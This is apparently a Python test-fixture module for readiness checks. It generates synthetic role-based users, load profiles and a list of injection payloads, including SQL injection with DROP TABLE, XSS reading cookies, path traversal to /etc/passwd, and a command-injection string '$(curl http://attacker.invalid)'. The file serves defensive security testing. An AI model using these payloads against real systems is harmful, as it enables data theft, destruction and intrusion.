"""Deterministic fixture generation for readiness runs."""

from __future__ import annotations

import hashlib
from dataclasses import asdict, dataclass, field
from typing import Any, Mapping, Sequence

MALICIOUS_PAYLOADS: tuple[str, ...] = (
    "' OR '1'='1",
    "'; DROP TABLE tasks; --",
    "1; SELECT * FROM users WHERE '1'='1",
    "admin'--",
    "\" OR \"\"=\"",
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "<svg/onload=alert('xss')>",
    "{{7*7}}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "; cat /etc/passwd",
    "$(curl http://attacker.invalid)",
    "%00",
)

ROLE_PERMISSIONS: Mapping[str, tuple[str, ...]] = {
    "admin": (
        "tasks:read",
        "tasks:write",
        "tasks:delete",
        "goals:read",
        "goals:write",
        "users:manage",
        "api_keys:manage",
        "sso:manage",
        "audit:read",
    ),
    "user": (
        "tasks:read",
        "tasks:write",
        "goals:read",
        "goals:write",
    ),
    "viewer": (
        "tasks:read",
        "goals:read",
    ),
}


@dataclass(frozen=True)
class FixtureUser:
    """Synthetic account used by the readiness checks."""

    role: str
    email: str
    password: str
    display_name: str
    permissions: tuple[str, ...] = field(default_factory=tuple)

    def to_dict(self) -> Mapping[str, Any]:
        payload = asdict(self)
        payload["permissions"] = list(self.permissions)
        return payload


@dataclass(frozen=True)
class LoadProfile:
    """Traffic shape consumed by load and scaling checks."""

    name: str
    virtual_users: int
    ramp_up_seconds: int
    duration_seconds: int
    think_time_ms: int


def _derive_secret(seed: str, role: str) -> str:
    digest = hashlib.sha256(f"{seed}:{role}".encode("utf-8")).hexdigest()
    return f"Rdy-{digest[:16]}!"


def build_users(seed: str, roles: Sequence[str] = tuple(ROLE_PERMISSIONS)) -> list[FixtureUser]:
    """Create one deterministic account per role."""

    users: list[FixtureUser] = []
    for role in roles:
        if role not in ROLE_PERMISSIONS:
            raise ValueError(f"Unknown fixture role '{role}'")
        users.append(
            FixtureUser(
                role=role,
                email=f"readiness-{role}@example.test",
                password=_derive_secret(seed, role),
                display_name=f"Readiness {role.title()}",
                permissions=ROLE_PERMISSIONS[role],
            )
        )
    return users


def build_load_profiles(baseline_users: int = 50) -> list[LoadProfile]:
    return [
        LoadProfile("baseline", baseline_users, 30, 300, 1000),
        LoadProfile("peak", baseline_users * 10, 120, 900, 500),
        LoadProfile("spike", baseline_users * 20, 10, 120, 250),
    ]


def build_scenarios(baseline_users: int = 50) -> Mapping[str, Any]:
    """Return scenario data: load profiles plus injection payloads."""

    return {
        "load_profiles": [asdict(profile) for profile in build_load_profiles(baseline_users)],
        "malicious_payloads": list(MALICIOUS_PAYLOADS),
    }


__all__ = [
    "FixtureUser",
    "LoadProfile",
    "MALICIOUS_PAYLOADS",
    "ROLE_PERMISSIONS",
    "build_load_profiles",
    "build_scenarios",
    "build_users",
]
